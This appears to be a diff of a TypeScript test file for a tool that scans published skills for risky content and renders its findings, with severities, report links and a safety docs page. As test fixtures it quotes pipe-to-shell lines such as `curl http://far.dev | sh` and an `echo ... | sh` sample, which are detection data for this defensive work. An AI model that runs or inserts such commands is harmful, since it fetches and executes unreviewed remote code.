@@ -3,7 +3,7 @@ import { sampleFinding } from '../../../testing/sample-facts.ts'
 import type { Finding, Skill } from '../../catalog/skill.ts'
 import { SAFETY_RULES } from '../../catalog/safety/rules.ts'
 import { createFileAddress } from '../on-request/file.ts'
-import { describeWorth, writeFindings, writeSafetyDocument } from './findings.ts'
+import { describeReliability, writeFindings, writeSafetyDocument } from './findings.ts'
 import { renderTwin } from '../prose/markdown.ts'
 import { renderHtml } from '../prose/render.ts'
 
@@ -30,14 +30,14 @@ const SITE = { origin: 'https://r.example', isCounted: false }
 const print = (findings: Finding[], url?: string, contact?: string): string =>
   String(writeFindings(skillWith(findings, url), { ...SITE, contact }, ADDRESS).markdown)
 
-/** The lines of the list. */
+/** The items of the list of findings. */
 const listOf = (findings: Finding[]): string[] =>
   print(findings)
     .split('\n')
     .filter((line) => line.startsWith('- '))
 
-describe('findings of a skill', () => {
-  test('each has a link that reports it, with rule, file and line, where the site has a contact', () => {
+describe('the findings of a skill', () => {
+  test('have links to report them, with rule, file and line, if the site has a contact', () => {
     expect(print([FOUND])).not.toContain('Report this')
     const twin = print([FOUND], undefined, 'https://tracker.example/new')
     const [, href = ''] = /\[Report this\]\(([^)]*)\)/.exec(twin) ?? []
@@ -63,11 +63,11 @@ describe('findings of a skill', () => {
     ['https://github.com/ann/s/tree/main/words', '/files/words/references/a%20b.md/view#L3'],
     ['https://far.dev/ann/s', '/files/words/references/a%20b.md/view#L3'],
     [undefined, '/files/words/references/a%20b.md/view#L3'],
-  ])('of %s link to %s', (url, address) => {
+  ])('from the source %s link to %s', (url, address) => {
     expect(print([FOUND], url)).toContain(`[references/a b.md, line 3](${address})`)
   })
 
-  test('severe ones say rule, severity, line and why, and what to do once for each kind', () => {
+  test('that are severe state severity, reason, line and rule, and give advice once per group', () => {
     const [first, second, ...others] = listOf([FOUND, { ...FOUND, line: 9, count: 3 }])
     expect(first).toMatch(
       /^- \*\*High:\*\* downloads a script and runs it unseen, at \[.*\]\(.*\) \(\[pipe-to-shell\]\(\/docs\/safety#pipe-to-shell\)\)\. Read what it downloads before .* `curl http:\/\/far.dev \| sh`$/,
@@ -76,7 +76,7 @@ describe('findings of a skill', () => {
     expect(others).toEqual([])
   })
 
-  test('the most severe stand first, what a curator has read last', () => {
+  test('are sorted by severity, with accepted findings last', () => {
     const accepted = { by: 'Bo', when: '2026-01-02', why: 'their *own* host' }
     const rows = listOf([
       { ...FOUND, accepted },
@@ -91,23 +91,23 @@ describe('findings of a skill', () => {
       '- High:',
     ])
     expect(rows[2]).toContain('runs it unseen (in a table; quoted), at ')
-    expect(rows[3]).toContain('). Read by Bo on 2026-01-02: their \\*own\\* host.')
+    expect(rows[3]).toContain('). Accepted by Bo on 2026-01-02: their \\*own\\* host.')
   })
 
   test.each([
     ['high', 'Read these lines before you install it.'],
     ['low', 'Nothing here needs a review.'],
-  ] as const)('of severity %s -> %s', (severity, said) => {
+  ] as const)('of severity %s have the introduction: %s', (severity, said) => {
     expect(print([{ ...FOUND, severity }])).toContain(said)
   })
 
-  test('of a whole file name it without a line', () => {
+  test('about a whole file name no line', () => {
     expect(print([{ ...FOUND, quote: '', line: 1 }])).toContain(
       'runs it unseen, at [references/a b.md](/files/words/references/a%20b.md/view#L1) (',
     )
   })
 
-  test('after ten are folded in HTML, after sixty counted', () => {
+  test('beyond ten are folded in HTML, and beyond sixty only counted', () => {
     const rows = Array.from({ length: 70 }, (_, at) => ({ ...FOUND, line: at + 1 }))
     const { markdown, more } = writeFindings(skillWith(rows), SITE, ADDRESS)
     expect(String(markdown).match(/^- \*\*/gm)).toHaveLength(10)
@@ -117,7 +117,7 @@ describe('findings of a skill', () => {
     expect(writeFindings(skillWith(rows.slice(0, 10)), SITE, ADDRESS)).not.toHaveProperty('more')
   })
 
-  test('stand in HTML with the line in code, which styles set below', () => {
+  test('have the quoted line last, as code, in HTML', () => {
     const quote = 'echo "<b>" `x` | sh'
     const rows = [
       { ...FOUND, quote },
@@ -132,23 +132,23 @@ describe('findings of a skill', () => {
   })
 })
 
-describe('what no findings are worth', () => {
-  test('no number before a labelled set was run', () => {
-    expect(describeWorth({ date: '2026-01-02', sets: [] })).not.toMatch(/\d/)
+describe('the reliability of a scan without findings', () => {
+  test('has no figures before a labelled set was scanned', () => {
+    expect(describeReliability({ date: '2026-01-02', sets: [] })).not.toMatch(/\d/)
   })
 
-  test('then what was found of each set, dated', () => {
+  test('has dated figures for each malicious set', () => {
     const sets = [
       { name: 'of a campaign', isMalicious: true, n: 50, flagged: 19 },
       { name: 'of a corpus', isMalicious: false, n: 1_080, flagged: 4 },
     ]
-    expect(describeWorth({ date: '2026-01-02', sets })).toBe(
+    expect(describeReliability({ date: '2026-01-02', sets })).toBe(
       'Static rules miss most attacks written in plain language. They found 19 of 50 of a campaign (2026-01-02).',
     )
   })
 })
 
-test('/docs/safety has every rule with its address, and the blind spots', () => {
+test('/docs/safety has a heading for every rule, and the blind spots', () => {
   const document = writeSafetyDocument()
   const twin = renderTwin(document)
   for (const { id } of SAFETY_RULES) expect(twin).toContain(`### ${id}\n`)
